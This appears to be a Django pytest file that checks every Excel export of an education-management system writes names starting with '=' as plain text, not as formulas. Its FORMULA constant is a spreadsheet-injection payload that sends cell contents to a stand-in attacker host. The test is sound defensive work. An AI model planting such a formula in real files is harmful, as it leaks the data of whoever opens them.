"""Every Excel file the project writes keeps text as text: a name beginning with "=" (a formula
such as =HYPERLINK(...), which Excel would run when the file is opened) arrives as the name."""

import io

import pytest
from openpyxl import load_workbook

from eacademy.catalog.models import Programme
from eacademy.core.roles import Role
from eacademy.enrollment.models import Enrollment
from eacademy.exams.models import Bank, QuestionVersion
from eacademy.journal.models import Certification
from eacademy.org.models import Agency
from eacademy.people.models import Person
from eacademy.timetable.models import Lesson

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'


def _cells(response) -> list:
    assert response.status_code == 200, response.status_code
    workbook = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_names_beginning_with_an_equals_sign_are_written_as_text_in_every_export(client_as, persona) -> None:
    Person.objects.update(last_name=FORMULA)
    Programme.objects.update(name_ru=FORMULA, name_kk=FORMULA, name_en=FORMULA)
    Agency.objects.update(name_ru=FORMULA, name_kk=FORMULA, name_en=FORMULA)
    QuestionVersion.objects.update(name=FORMULA)
    listener = Enrollment.objects.filter(person__user=persona(Role.LISTENER), status="completed").select_related("offering").first()
    certification = Certification.objects.filter(offering=listener.offering, kind="final").first()
    lesson = Lesson.objects.filter(group=listener.group).first()
    year = listener.offering.ends_on.year
    exports = {
        "plan": (Role.METHODOLOGIST, f"/plan/plan.xlsx?year={year + 1}"),
        "staff": (Role.ADMINISTRATOR, "/staff/?format=xlsx"),
        "transcript": (Role.METHODOLOGIST, f"/journal/transcripts/{listener.person_id}.xlsx"),
        "grade sheet": (Role.METHODOLOGIST, f"/journal/groups/{listener.group_id}/disciplines/{lesson.discipline_id}/sheet.xlsx"),
        "protocol": (Role.METHODOLOGIST, f"/journal/certifications/{certification.pk}/protocol.xlsx"),
        "trained": (Role.LEADERSHIP, f"/analytics/trained/?year={year}&format=xlsx"),
        "dashboard": (Role.METHODOLOGIST, f"/analytics/?year={year}&format=xlsx"),
        "bank": (Role.METHODOLOGIST, f"/exams/banks/{Bank.objects.first().pk}/export/xlsx/"),
    }
    for name, (role, url) in exports.items():
        cells = _cells(client_as(role).get(url))
        assert not [c.coordinate for c in cells if c.data_type == "f"], f"{name}: a formula was written"
        if name != "dashboard":  # the dashboard's sheets hold figures by year and kind, no names
            assert any(isinstance(c.value, str) and FORMULA in c.value for c in cells), f"{name}: the name is missing"
